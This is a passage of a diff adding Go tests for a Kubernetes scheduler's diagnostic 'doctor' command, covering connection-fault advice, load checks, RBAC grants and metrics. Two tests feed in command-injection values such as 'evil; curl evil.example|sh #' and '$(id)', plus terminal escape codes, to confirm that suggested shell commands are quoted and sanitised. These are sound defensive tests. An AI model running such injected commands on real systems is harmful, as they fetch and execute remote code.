@@ -1,0 +1,639 @@
+package doctor
+
+import (
+	"context"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"fmt"
+	"math"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	appsv1 "k8s.io/api/apps/v1"
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	componentbaseconfig "k8s.io/component-base/config"
+	schedulerconfig "k8s.io/kubernetes/pkg/scheduler/apis/config"
+	"k8s.io/utils/ptr"
+	"sigs.k8s.io/yaml"
+
+	"github.com/plimsoll-scheduler/plimsoll/apis/config"
+	"github.com/plimsoll-scheduler/plimsoll/pkg/inspect/live"
+	"github.com/plimsoll-scheduler/plimsoll/pkg/load"
+	"github.com/plimsoll-scheduler/plimsoll/pkg/source/httpclient"
+	"github.com/plimsoll-scheduler/plimsoll/pkg/source/prometheus"
+)
+
+// examinedAt returns a source with an address.
+func examinedAt(address string, pods ...*corev1.Pod) *examinedSource {
+	spec := config.LoadSpec{MetricProvider: config.MetricProviderSpec{
+		Type: config.Prometheus, Address: address, Dialect: config.DialectAuto, NodeLabels: []string{"node"},
+		TokenFile: "/etc/plimsoll/token/token", CAFile: "/etc/plimsoll/ca/ca.crt", Timeout: metav1.Duration{Duration: 10 * time.Second},
+	}}
+	spec.Window.Duration, spec.RefreshInterval.Duration, spec.MaxAge.Duration, spec.DriftTolerance = 5*time.Minute, 30*time.Second, 5*time.Minute, 10
+	return &examinedSource{
+		examination: &examination{
+			conn: &live.Connection{},
+			configuration: &live.Configuration{
+				Origin:   "ConfigMap plimsoll-system/plimsoll",
+				Workload: &live.Workload{Kind: "Deployment", Namespace: "plimsoll-system", Name: "plimsoll", Container: "kube-scheduler", Pods: []string{"plimsoll-1"}},
+			},
+			objects: &objects{
+				pods: pods,
+				services: []*corev1.Service{
+					service("monitoring", "prometheus-operated", 9090), service("monitoring", "thanos-query", 10902), service("shop", "web", 80),
+				},
+			},
+		},
+		Source:       &live.Source{Label: "Prometheus", Spec: spec, Route: "directly", Reader: &prometheus.Source{}},
+		requirements: requirements{windows: []time.Duration{5 * time.Minute}, spec: spec},
+	}
+}
+
+func service(namespace, name string, port int32) *corev1.Service {
+	return &corev1.Service{
+		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name},
+		Spec:       corev1.ServiceSpec{Selector: map[string]string{"app": name}, Ports: []corev1.ServicePort{{Name: "web", Port: port}}},
+	}
+}
+
+// schedulerPod returns the scheduler's pod, with the volumes that the chart mounts.
+func schedulerPod() *corev1.Pod {
+	return &corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Namespace: "plimsoll-system", Name: "plimsoll-1"},
+		Spec: corev1.PodSpec{
+			Containers: []corev1.Container{{Name: "kube-scheduler", VolumeMounts: []corev1.VolumeMount{
+				{Name: "token", MountPath: "/etc/plimsoll/token"}, {Name: "ca", MountPath: "/etc/plimsoll/ca/"},
+			}}},
+			Volumes: []corev1.Volume{
+				{Name: "token", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "prometheus-token"}}},
+				{Name: "ca", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "prometheus-ca"}}}},
+			},
+		},
+	}
+}
+
+func TestFault(t *testing.T) {
+	const there = "https://prometheus-operated.monitoring.svc:9090/prefix"
+	unknown := x509.UnknownAuthorityError{Cert: &x509.Certificate{Issuer: pkix.Name{CommonName: "house-ca"}}}
+	status := func(code int, body string) error { return &httpclient.StatusError{Code: code, Body: []byte(body)} }
+	for _, tt := range []struct {
+		name, address, route string
+		err                  error
+		pods                 []*corev1.Pod
+		stage                string
+		// wants are in the first advice with its YAML and command.
+		wants []string
+	}{
+		{"a Service of another name", "http://prometheus.monitoring.svc:9090/x", "", &net.DNSError{Err: "no such host", Name: "prometheus.monitoring.svc"}, nil,
+			stageResolves, []string{"There is no Service monitoring/prometheus.", "address: http://prometheus-operated.monitoring.svc:9090/x"}},
+		{"a Service that does not exist, by the proxy", "http://prometheus.monitoring.svc:9090", "through the API server's proxy", status(404, `{"kind":"Status"}`), nil,
+			stageResolves, []string{"address: http://prometheus-operated.monitoring.svc:9090"}},
+		{"no Service is similar", "http://graphite.nowhere.svc:80", "", &net.DNSError{Err: "no such host"}, nil, stageResolves, []string{"kubectl get services -A"}},
+		{"another port", "http://prometheus-operated.monitoring.svc:80", "", syscall.ECONNREFUSED, nil,
+			stageConnects, []string{"has no port 80", "address: http://prometheus-operated.monitoring.svc:9090"}},
+		{"no pod behind the Service", "http://prometheus-operated.monitoring.svc:9090", "", syscall.ECONNREFUSED, nil,
+			stageConnects, []string{"No ready pod", "kubectl -n monitoring describe pods -l app=prometheus-operated"}},
+		{"a server that is no Service", "http://10.0.0.9:9090/p", "", syscall.ECONNREFUSED, nil, stageConnects, []string{"Start the server at 10.0.0.9:9090", "curl -sS 'http://10.0.0.9:9090/p/api/v1/query?query=1'"}},
+		{"an unknown authority, with a ConfigMap", there, "", fmt.Errorf("x: %w", unknown), []*corev1.Pod{schedulerPod()},
+			stageTLS, []string{"house-ca signed the certificate", "-connect prometheus-operated.monitoring.svc:9090",
+				"kubectl -n plimsoll-system create configmap prometheus-ca --from-file=ca.crt=ca.crt"}},
+		{"OpenShift's authority", there, "", x509.UnknownAuthorityError{Cert: &x509.Certificate{Issuer: pkix.Name{CommonName: "openshift-service-serving-signer@1"}}}, nil,
+			stageTLS, []string{"caFile: /var/run/secrets/kubernetes.io/serviceaccount/service-ca.crt"}},
+		{"another name in the certificate", there, "", x509.HostnameError{Host: "x", Certificate: &x509.Certificate{DNSNames: []string{"prom.example.org"}}}, nil,
+			stageTLS, []string{"address: https://prom.example.org:9090/prefix"}},
+		{"an expired certificate", there, "", x509.CertificateInvalidError{Reason: x509.Expired, Cert: &x509.Certificate{}}, nil, stageTLS, []string{"renew the certificate"}},
+		{"plain HTTP where HTTPS is spoken", "http://prometheus-operated.monitoring.svc:9090", "", status(400, "Client sent an HTTP request to an HTTPS server."), nil,
+			stageTLS, []string{"address: https://prometheus-operated.monitoring.svc:9090"}},
+		{"a token by the proxy", there, "through the API server's proxy", status(401, "no"), nil, stageAuthorized, []string{"kubectl -n plimsoll-system exec deploy/plimsoll -c kube-scheduler -- kubectl-plimsoll doctor"}},
+		{"the proxy is forbidden", there, "through the API server's proxy", status(403, `{"kind":"Status"}`), nil, stageAuthorized, []string{"Your user may not use"}},
+		{"no token", there, "", status(401, "no"), nil, stageAuthorized, []string{"tokenFile: /etc/plimsoll/token/token"}},
+		{"a file of the pod", there, "", os.ErrNotExist, nil, stageAuthorized, []string{"exec deploy/plimsoll"}},
+		{"a redirect to a server that is down", "http://10.0.0.9:9090", "", &url.Error{Op: "Get", URL: "http://10.0.0.8:9/x", Err: syscall.ECONNREFUSED}, nil,
+			stageAnswers, []string{"10.0.0.9:9090 redirects to 10.0.0.8:9", "curl -sSI http://10.0.0.9:9090"}},
+		{"another status", "http://10.0.0.9:9090", "", status(http.StatusBadGateway, ""), nil, stageAnswers, []string{"10.0.0.9:9090"}},
+		{"an error of another kind, such as of a source that is new", there, "", fmt.Errorf("quota of the account is used up"), nil, stageAnswers, []string{"Do what the message says"}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			s := examinedAt(tt.address, tt.pods...)
+			if tt.route != "" {
+				s.Route = tt.route
+			}
+			s.Err = tt.err
+			s.checkReached()
+			last := s.report.Checks[len(s.report.Checks)-1]
+			if last.ID != tt.stage || last.Status == OK {
+				t.Fatalf("%s is %s, want a fault of %s", last.ID, last.Status, tt.stage)
+			}
+			text := ""
+			for _, a := range last.Advice {
+				text += a.Text + "\n" + a.Command + "\n" + a.YAML + "\n"
+			}
+			for _, want := range tt.wants {
+				if !strings.Contains(text, want) {
+					t.Errorf("the advice is\n%s\nwant %q", text, want)
+				}
+			}
+		})
+	}
+}
+
+// TestFault_HostedService expects the message, which knows of two keys, instead of advice about the token of a Prometheus.
+func TestFault_HostedService(t *testing.T) {
+	for code, stage := range map[int]string{
+		http.StatusForbidden: stageAuthorized, http.StatusUnauthorized: stageAuthorized, http.StatusTooManyRequests: stageAnswers,
+	} {
+		s := examinedAt("https://api.datadoghq.eu")
+		s.Spec.MetricProvider.Type = config.Datadog
+		s.Err = &httpclient.StatusError{Code: code, Hint: "the application key lacks a scope"}
+		s.checkReached()
+		last := s.report.Checks[len(s.report.Checks)-1]
+		if last.ID != stage || !strings.Contains(last.Message, "the application key lacks a scope") ||
+			len(last.Advice) != 1 || !strings.Contains(last.Advice[0].Text, "Do what the message says") {
+			t.Errorf("status %d: the check is %+v, want a fault of %s", code, last, stage)
+		}
+	}
+}
+
+func TestTableChecks(t *testing.T) {
+	now := time.Unix(1_700_000_000, 0)
+	measured := func(mean, stdDev float64, age time.Duration) load.Measurement {
+		return load.Measurement{Stat: load.Stat{Mean: mean, StdDev: stdDev, Known: true}, Window: time.Minute, End: now.Add(-age)}
+	}
+	both := func(m load.Measurement) load.NodeLoad { return load.NodeLoad{m, m} }
+	for _, tt := range []struct {
+		name  string
+		loads map[string]load.NodeLoad
+		id    string
+		want  Status
+		text  string
+	}{
+		{"all is fine", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, time.Second)), "b": both(measured(0.4, 0.1, 9*time.Second))}, "time.age", OK, "1s to 9s old"},
+		{"no load", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, time.Second)), "b": {}}, "nodes.measured", Warning, "nodes without load: 1 of 2 (b)"},
+		{"no load anywhere", map[string]load.NodeLoad{"b": {}}, "nodes.measured", Error, "nodes without load: 1 of 1 (b)"},
+		{"old load", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 6*time.Minute))}, "time.age", Error, "a cpu, a memory"},
+		{"load that is old soon", map[string]load.NodeLoad{"a": both(measured(0.5, 0.1, 3*time.Minute))}, "time.age", Warning, "a expires soon"},
+		{"zero", map[string]load.NodeLoad{"a": {measured(0, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.zero", Warning, "1 resource is at exactly 0, which no running node is: a cpu"},
+		{"a full node", map[string]load.NodeLoad{"a": {measured(1, 0.1, 0), measured(0.5, 0.1, 0)}}, "values.capacity", Warning, "a cpu"},
+		{"no deviation of any node", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0))}, "values.deviation", Warning, "a cpu, a memory"},
+		{"a node that is steady", map[string]load.NodeLoad{"a": both(measured(0.5, 0, 0)), "b": both(measured(0.5, 0.1, 0))}, "values.deviation", OK, ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			s := examinedAt("http://10.0.0.9:2020")
+			s.Reader = nil // as of any source that tells nothing more
+			s.requirements.deviation = true
+			var got *Check
+			for _, c := range s.tableChecks(tt.loads, now) {
+				if c.ID == tt.id {
+					got = &c
+				}
+				if (c.Status == OK) != (len(c.Advice) == 0) {
+					t.Errorf("%s is %s, with advice %+v", c.ID, c.Status, c.Advice)
+				}
+			}
+			if got == nil || got.Status != tt.want || !strings.Contains(got.Message, tt.text) {
+				t.Errorf("%s is %+v, want %s with %q", tt.id, got, tt.want, tt.text)
+			}
+		})
+	}
+}
+
+func TestWaitingChecks(t *testing.T) {
+	now := time.Unix(1_700_000_000, 0)
+	pod := func(name, scheduler string, age time.Duration, change func(*corev1.Pod)) *corev1.Pod {
+		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: name, CreationTimestamp: metav1.NewTime(now.Add(-age))}, Spec: corev1.PodSpec{SchedulerName: scheduler}}
+		if change != nil {
+			change(p)
+		}
+		return p
+	}
+	refused := func(p *corev1.Pod) {
+		p.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse}}
+	}
+	owned := func(kind, owner string) func(*corev1.Pod) {
+		return func(p *corev1.Pod) {
+			p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: owner, Controller: ptr.To(true)}}
+		}
+	}
+	for _, tt := range []struct {
+		name    string
+		pods    []*corev1.Pod
+		leading bool
+		want    Status
+		wants   []string
+	}{
+		{"a scheduler has said why", []*corev1.Pod{pod("a", "other", time.Hour, refused)}, true, OK, []string{"1 pod waits for other reasons"}},
+		{"a pod that has just been created", []*corev1.Pod{pod("a", "other", time.Second, nil)}, true, OK, nil},
+		{"a pod on a node", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.NodeName = "n" })}, true, OK, nil},
+		{"a pod with a gate", []*corev1.Pod{pod("a", "other", time.Hour, func(p *corev1.Pod) { p.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "g"}} })}, true, OK, nil},
+		{"a misspelt name", []*corev1.Pod{pod("a", "plimsol", time.Hour, nil)}, true, Error, []string{`did you mean "plimsoll"?`, `"schedulerName":"plimsoll"`, "get pod a"}},
+		{"a name that is like no other", []*corev1.Pod{pod("a", "zzz", time.Hour, nil)}, true, Error, []string{`"schedulerName":"default-scheduler"`}},
+		{"pods of a StatefulSet", []*corev1.Pod{pod("a-0", "plimsol", time.Hour, owned("StatefulSet", "a")), pod("a-1", "plimsol", time.Hour, owned("StatefulSet", "a"))},
+			true, Error, []string{"2 pods wait", "kubectl -n shop patch statefulset a --type=merge"}},
+		{"a Job", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("Job", "j"))}, true, Error, []string{"create Job shop/j again"}},
+		{"a CronJob's pods", []*corev1.Pod{pod("a", "plimsol", time.Hour, owned("CronJob", "c"))}, true, Error,
+			[]string{`kubectl -n shop patch cronjob c --type=merge -p '{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"schedulerName":"plimsoll"}}}}}}'`}},
+		{"our scheduler is away", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, false, Error, []string{"its scheduler is away", "describe"}},
+		{"our scheduler is slow", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil)}, true, Warning, []string{"a profile has this name"}},
+		{"our scheduler works on it", []*corev1.Pod{pod("a", "plimsoll", time.Hour, nil), pod("b", "plimsoll", time.Hour, refused)}, true, OK, nil},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			o := objectsOf([]runtime.Object{&appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}})
+			o.pods = tt.pods
+			checks := o.waitingChecks([]string{"plimsoll"}, tt.leading, "kubectl describe it", now)
+			if len(checks) != 1 || checks[0].Status != tt.want {
+				t.Fatalf("got %+v, want one %s", checks, tt.want)
+			}
+			text := fmt.Sprint(checks[0])
+			for _, want := range tt.wants {
+				if !strings.Contains(text, want) {
+					t.Errorf("got %s, want %q", text, want)
+				}
+			}
+		})
+	}
+}
+
+func TestVersionCheck(t *testing.T) {
+	for _, tt := range []struct {
+		scheduler, server string
+		want              Status
+	}{
+		{"v1.36.3", "v1.36.0", OK}, {"v1.36.3", "v1.37.1", OK}, {"v1.36.3", "v1.38.0", Warning}, {"v1.36.3", "v1.35.9", Error}, {"v1.36.3", "v1.36.2-eks-1234", OK}, {"main", "v1.36.0", Warning},
+	} {
+		if got := versionCheck(tt.scheduler, tt.server, ""); got.Status != tt.want {
+			t.Errorf("scheduler %s with API server %s: %+v, want %s", tt.scheduler, tt.server, got, tt.want)
+		}
+	}
+}
+
+func TestMetricChecks(t *testing.T) {
+	metrics, err := parseMetrics(strings.NewReader(`# TYPE plimsoll_load_nodes gauge
+plimsoll_load_nodes{source="Prometheus",resource="cpu",state="Fresh"} 3
+plimsoll_load_nodes{source="Prometheus",resource="cpu",state="Absent"} 0
+plimsoll_load_nodes{source="Prometheus",resource="memory",state="Fresh"} 0
+plimsoll_load_nodes{source="Prometheus",resource="memory",state="Expired"} 3
+# TYPE plimsoll_refresh_total counter
+plimsoll_refresh_total{source="Prometheus",result="Success"} 80
+plimsoll_refresh_total{source="Prometheus",result="Error"} 20
+# TYPE plimsoll_decisions_total counter
+plimsoll_decisions_total{plugin="TargetLoadPacking"} 100
+plimsoll_decisions_total{plugin="LoadThreshold"} 100
+# TYPE plimsoll_fallback_total counter
+plimsoll_fallback_total{plugin="TargetLoadPacking",reason="StepAside"} 11
+plimsoll_fallback_total{plugin="LoadThreshold",reason="Absent"} 10
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, c := range metricChecks(metrics, "a test") {
+		got = append(got, fmt.Sprintf("%s %s: %s", c.Status, c.ID, c.Message))
+	}
+	want := []string{
+		"error scheduler.load: the scheduler's metrics, by a test, say Prometheus: memory fresh on 0, expired on 3, absent on 0 nodes",
+		"ok scheduler.load: Prometheus: cpu fresh on 3, expired on 0, absent on 0 nodes",
+		"warning scheduler.refreshes: Prometheus: 20 of 100 refreshes failed since the scheduler started",
+		"ok scheduler.fallbacks: LoadThreshold judged 10 of 100 placements without load",
+		"warning scheduler.fallbacks: TargetLoadPacking judged 11 of 100 placements without load since the scheduler started: StepAside 11",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	if got := metricChecks(nil, "a test"); len(got) != 1 || got[0].Status != Warning {
+		t.Errorf("without metrics of Plimsoll: %+v", got)
+	}
+}
+
+func TestSkewOf(t *testing.T) {
+	sent := time.Unix(1_700_000_000, 0)
+	// The server's clock shows 61 s later than the middle between request and response.
+	if got := skewOf(sent.Add(62*time.Second), sent, sent.Add(2*time.Second)); got != 61*time.Second {
+		t.Errorf("the skew is %s, want 1m1s", got)
+	}
+}
+
+func TestClaimsOf(t *testing.T) {
+	// {"sub":"system:serviceaccount:a:b","exp":1700000000}
+	c, ok := claimsOf("x.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YTpiIiwiZXhwIjoxNzAwMDAwMDAwfQ.y\n")
+	if !ok || c.Subject != "system:serviceaccount:a:b" || c.Expiry != 1700000000 {
+		t.Errorf("got %+v, %v", c, ok)
+	}
+	for _, token := range []string{"", "sha256~opaque", "a.b.c", "a.!.c"} {
+		if c, ok := claimsOf(token); ok {
+			t.Errorf("%q has claims %+v", token, c)
+		}
+	}
+}
+
+// TestRightsOf compares with the roles that the chart installs: a right that is checked must be granted there, and the other way
+// round.
+func TestRightsOf(t *testing.T) {
+	text, err := os.ReadFile("../../../manifests/second-scheduler.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	granted := map[string]bool{}
+	for _, document := range strings.Split(string(text), "\n---\n") {
+		var role rbacv1.ClusterRole
+		if err := yaml.Unmarshal([]byte(document), &role); err != nil || role.Kind != "ClusterRole" && role.Kind != "Role" {
+			continue
+		}
+		for _, rule := range role.Rules {
+			for _, group := range rule.APIGroups {
+				for _, resource := range rule.Resources {
+					for _, verb := range rule.Verbs {
+						granted[verb+" "+resourceName(group, resource)] = true
+					}
+				}
+			}
+		}
+	}
+	if len(granted) == 0 {
+		t.Fatal("no role was found")
+	}
+	cfg := &schedulerconfig.KubeSchedulerConfiguration{Profiles: []schedulerconfig.KubeSchedulerProfile{{
+		Plugins:      &schedulerconfig.Plugins{Score: schedulerconfig.PluginSet{Enabled: []schedulerconfig.Plugin{{Name: config.TargetLoadPacking}}}},
+		PluginConfig: []schedulerconfig.PluginConfig{{Name: config.TargetLoadPacking, Args: &config.TargetLoadPackingArgs{LoadSpec: config.LoadSpec{MetricProvider: config.MetricProviderSpec{Type: config.KubernetesMetricsServer}}}}},
+	}}}
+	needed := map[string]bool{}
+	for _, r := range rightsOf(cfg, componentbaseconfig.LeaderElectionConfiguration{LeaderElect: true, ResourceName: "plimsoll", ResourceNamespace: "plimsoll-system"}) {
+		if r.purpose == "" {
+			t.Errorf("%+v has no purpose", r)
+		}
+		for _, verb := range r.verbs {
+			right := verb + " " + resourceName(r.group, r.resource)
+			needed[right] = true
+			// A role of kube-system has that one.
+			if !granted[right] && r.resource != "configmaps" {
+				t.Errorf("%s is checked, and the chart does not grant it", right)
+			}
+		}
+	}
+	for right := range granted {
+		// Old names, what only old clients or other API servers ask, and what only preparing a binding takes.
+		if strings.Contains(right, ".extensions") || strings.HasSuffix(right, " bindings") || strings.Contains(right, "resourceclaims") || strings.HasSuffix(right, "pods/finalizers") {
+			continue
+		}
+		if !needed[right] {
+			t.Errorf("%s is granted by the chart, and not checked", right)
+		}
+	}
+}
+
+// TestGrants expects one role for the cluster and one for each namespace, whatever the number of rights.
+func TestGrants(t *testing.T) {
+	to := subjectOf("system:serviceaccount:ns:account")
+	rights := []right{
+		{resource: "nodes", verbs: []string{"get", "list"}},
+		{group: "coordination.k8s.io", resource: "leases", verbs: []string{"get"}, namespace: "ns", name: "lease"},
+		{resource: "services", verbs: []string{"get", "list"}},
+		{resource: "pods/status", verbs: []string{"patch"}},
+	}
+	got := grants(rights, to)
+	want := `apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata:
+  name: plimsoll-may-1
+rules:
+- apiGroups:
+  - ""
+  resources:
+  - nodes
+  - services
+  verbs:
+  - get
+  - list
+- apiGroups:
+  - ""
+  resources:
+  - pods/status
+  verbs:
+  - patch
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata:
+  name: plimsoll-may-1
+roleRef:
+  apiGroup: rbac.authorization.k8s.io
+  kind: ClusterRole
+  name: plimsoll-may-1
+subjects:
+- kind: ServiceAccount
+  name: account
+  namespace: ns
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata:
+  name: plimsoll-may-2
+  namespace: ns
+rules:
+- apiGroups:
+  - coordination.k8s.io
+  resourceNames:
+  - lease
+  resources:
+  - leases
+  verbs:
+  - get
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata:
+  name: plimsoll-may-2
+  namespace: ns
+roleRef:
+  apiGroup: rbac.authorization.k8s.io
+  kind: Role
+  name: plimsoll-may-2
+subjects:
+- kind: ServiceAccount
+  name: account
+  namespace: ns
+`
+	names := map[string]string{}
+	numbered := regexp.MustCompile("plimsoll-may-[0-9a-f]{8}").ReplaceAllStringFunc(got, func(name string) string {
+		if names[name] == "" {
+			names[name] = fmt.Sprintf("plimsoll-may-%d", len(names)+1)
+		}
+		return names[name]
+	})
+	if diff := cmp.Diff(want, numbered); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	for name := range names {
+		if other := grants(rights[2:], to); strings.Contains(other, name) {
+			t.Errorf("other rights have a role of the same name, and would replace it:\n%s", other)
+		}
+		if other := grants(rights, subjectOf("jane")); strings.Contains(other, name) {
+			t.Errorf("another user has a binding of the same name, and would replace it:\n%s", other)
+		}
+	}
+
+	e := &examination{}
+	e.addLacking(Error, "rights.scheduler", to, rights)
+	for _, c := range e.report.Checks {
+		if len(e.report.Checks) != len(rights) || len(c.Advice) != 1 || c.Advice[0] != e.report.Checks[0].Advice[0] {
+			t.Errorf("the advice is not one for all: %+v", e.report.Checks)
+		}
+	}
+}
+
+// TestCheckReached_UnknownStage expects no stage to be called fine where it is not known how far a request came, such as with a
+// source that has a default address.
+func TestCheckReached_UnknownStage(t *testing.T) {
+	s := examinedAt("")
+	s.Spec.MetricProvider.Type, s.Label, s.Reader = "Datadog", "Datadog", nil
+	s.Err = &net.DNSError{Err: "no such host", Name: "api.example.org"}
+	s.checkReached()
+	if len(s.report.Checks) != 1 || s.report.Checks[0].Status != Error || len(s.report.Checks[0].Advice) == 0 {
+		t.Errorf("got %+v, want the fault alone", s.report.Checks)
+	}
+}
+
+// TestAdviseWaiting_HostileOwner expects nothing of what a pod's author wrote as its owner in what is said, unless the owner exists
+// or can exist.
+func TestAdviseWaiting_HostileOwner(t *testing.T) {
+	set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-1"}}
+	of := func(d string) *appsv1.ReplicaSet {
+		set := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "of-" + d[:1]}}
+		set.OwnerReferences = []metav1.OwnerReference{{Kind: "Deployment", Name: d, Controller: ptr.To(true)}}
+		return set
+	}
+	all := objectsOf([]runtime.Object{set, of("deployed"), of("x; id")})
+	for _, tt := range []struct{ kind, name, command string }{
+		{"Deployment", "evil; curl evil.example|sh #\x1b[2J", ""},
+		{"Foo; touch evil #\n\x1b[31mRIGHTS ok", "x", ""},
+		{"Deployment", "evil", ""}, // pods are made by ReplicaSets
+		{"ReplicaSet", "evil", ""},
+		{"ReplicaSet", "of-x", ""},
+		{"StatefulSet", "evil", ""},
+		{"DaemonSet", "evil$(id)", ""},
+		{"DaemonSet", "--all", ""},
+		{"ReplicaSet", "web-1", "patch replicaset web-1"},
+		{"ReplicaSet", "of-d", "patch deployment deployed"},
+		{"DaemonSet", "agent", "patch daemonset agent"},
+	} {
+		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "a"}}
+		pod.OwnerReferences = []metav1.OwnerReference{{Kind: tt.kind, Name: tt.name, Controller: ptr.To(true)}}
+		advice := all.adviseWaiting([]*corev1.Pod{pod}, "plimsol", []string{"plimsoll"})[0]
+		if tt.command == "" && (advice.Command != "" || strings.Contains(advice.Text, "evil")) || !strings.Contains(advice.Command, tt.command) || advice.Text == "" {
+			t.Errorf("owner %s %q: %+v", tt.kind, tt.name, advice)
+		}
+	}
+	if c := newCheck(Error, "a.b", "x\x1b[2Jy\u202ez", Advice{Text: "\x1b", Command: "\x1b", YAML: "a: \x1b\nb: 1\n"}); strings.ContainsAny(fmt.Sprint(c), "\x1b\u202e") {
+		t.Errorf("%q steers a terminal", c)
+	}
+}
+
+// TestCommands_Quoted expects every name that a configuration or an object brings into a command to be one word of the shell.
+func TestCommands_Quoted(t *testing.T) {
+	const evil = "x; touch evil"
+	s := examinedAt("http://prometheus-operated.monitoring.svc:9090", schedulerPod())
+	w := s.configuration.Workload
+	w.Container = evil
+	s.objects.pods[0].Spec.Volumes[0].Secret.SecretName, s.objects.pods[0].Spec.Volumes[1].ConfigMap.Name = evil, evil
+	s.objects.services[0].Spec.Selector = map[string]string{"app": evil}
+	u, _ := url.Parse(s.address())
+	advice := s.adviseAuthority(&x509.Certificate{}, u)
+	advice = append(advice, s.adviseAddress(u)...)
+	advice = append(advice, Advice{Command: execCommand(w)}, Advice{Command: s.queryCommand(evil)}, Advice{Command: logsCommand("a", evil)})
+	quoted := 0
+	for _, a := range advice {
+		if strings.Contains(strings.ReplaceAll(a.Command, "'"+evil+"'", ""), evil) && !strings.Contains(a.Command, "="+evil+"'") {
+			t.Errorf("a name is not quoted in %s", a.Command)
+		}
+		quoted += strings.Count(a.Command, evil)
+	}
+	if quoted < 4 {
+		t.Errorf("the name is in %d commands, want 4 or more: %+v", quoted, advice)
+	}
+}
+
+// TestCheckCapacity_Infinite expects a query that divides by zero to be told from one in percent.
+func TestCheckCapacity_Infinite(t *testing.T) {
+	s := examinedAt("http://10.0.0.9:9090")
+	s.diagnosis.Queries = []prometheus.QueryDiagnosis{{Query: "mean of cpu over 5m0s (own query)", PromQL: "a / 0", Highest: math.Inf(1), HighestNode: "n1"}}
+	s.checkCapacity()
+	c := s.report.Checks[0]
+	if c.Status != Error || strings.Contains(c.Message, "Inf") || c.Advice[0].YAML != "" || !strings.Contains(c.Advice[0].Command, "a / 0") {
+		t.Errorf("got %+v", c)
+	}
+}
+
+// TestCheckMatching_Groups expects one check for all nodes with the same advice.
+func TestCheckMatching_Groups(t *testing.T) {
+	s := examinedAt("http://10.0.0.9:9090")
+	s.diagnosis.NodeCount = 11
+	s.examined.Sampling = map[string]prometheus.Sampling{"healthy": {Interval: time.Second}}
+	for i := range 10 {
+		n := prometheus.Nearest{Node: fmt.Sprintf("w%d", i)}
+		if i > 6 {
+			n.Series = "up{instance=" + n.Node + "}"
+		}
+		s.diagnosis.NodesWithoutSeries = append(s.diagnosis.NodesWithoutSeries, n.Node)
+		s.examined.Nearest = append(s.examined.Nearest, n)
+	}
+	s.checkMatching()
+	var got []string
+	for _, c := range s.report.Checks {
+		if c.ID == "nodes.measured" && strings.Contains(fmt.Sprint(c.Advice), "too few samples") {
+			t.Errorf("samples of a node that has load count for those without: %+v", c)
+		}
+		if c.ID == "nodes.nearest" {
+			got = append(got, c.Message)
+		}
+	}
+	want := []string{
+		"the series most similar to nodes without load: w7: up{instance=w7}, w8: up{instance=w8}, w9: up{instance=w9}",
+		"no series has a label that looks like the name of a node without load: w0, w1, w2, w3, w4, …",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+}
+
+// TestRequirementsOf_Deviation expects the deviation to be known as needed by each plugin that uses it.
+func TestRequirementsOf_Deviation(t *testing.T) {
+	spec := config.LoadSpec{MetricProvider: config.MetricProviderSpec{Type: config.Datadog}, Window: metav1.Duration{Duration: time.Minute}}
+	for args, want := range map[runtime.Object]bool{
+		&config.LoadVariationRiskBalancingArgs{LoadSpec: spec}: true, &config.LowRiskOverCommitmentArgs{LoadSpec: spec}: true, &config.PeaksArgs{LoadSpec: spec}: false,
+	} {
+		cfg := &schedulerconfig.KubeSchedulerConfiguration{Profiles: []schedulerconfig.KubeSchedulerProfile{{
+			Plugins:      &schedulerconfig.Plugins{Score: schedulerconfig.PluginSet{Enabled: []schedulerconfig.Plugin{{Name: "P"}}}},
+			PluginConfig: []schedulerconfig.PluginConfig{{Name: "P", Args: args}},
+		}}}
+		if r := requirementsOf(cfg, spec); r.deviation != want || len(r.windows) != 1 {
